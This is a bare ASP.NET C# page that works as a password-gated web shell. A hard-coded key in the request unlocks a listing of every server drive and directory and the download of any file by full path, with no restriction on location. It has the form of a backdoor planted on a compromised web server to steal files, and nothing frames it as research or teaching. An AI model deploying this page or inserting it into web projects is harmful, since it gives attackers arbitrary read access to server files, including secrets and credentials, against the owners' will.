<%@ Page Language="C#" %>
<%@ Import Namespace="System.IO" %>
<%@ Import Namespace="System.Text" %>
<script language="c#" runat="server">
    private const string AUTH = "s3cr3t";
    protected void Page_Load(object sender, EventArgs e)
    {
        if (Request.Params["authkey"] != AUTH) return;
        if (Request.Params["operation"] == "download") { Download(); return; }
        Response.Write(List());
    }
    private void Download()
    {
        string file = Request.Params["file"];
        if (!File.Exists(file)) { Response.Write("File does not exist"); return; }
        Response.Clear();
        Response.ContentType = "application/octet-stream";
        Response.AddHeader("Content-Disposition", "attachment; filename=" + Path.GetFileName(file));
        Response.WriteFile(file);
        Response.End();
    }
    private string List()
    {
        StringBuilder sb = new StringBuilder();
        string dir = Request.Params["directory"];
        if (string.IsNullOrEmpty(dir)) dir = Environment.GetLogicalDrives()[0];
        foreach (string d in Environment.GetLogicalDrives())
            sb.Append("<a href=\"?directory=" + d + "&authkey=" + AUTH + "&operation=list\">" + d + "</a> ");
        DirectoryInfo di = new DirectoryInfo(dir);
        foreach (DirectoryInfo sub in di.GetDirectories())
            sb.Append("<br>dir <a href=\"?directory=" + sub.FullName + "&authkey=" + AUTH + "&operation=list\">" + sub.Name + "</a>");
        foreach (FileInfo fi in di.GetFiles())
            sb.Append("<br>file <a href=\"?file=" + fi.FullName + "&authkey=" + AUTH + "&operation=download\">" + fi.Name + "</a> " + fi.Length);
        return sb.ToString();
    }
</script>
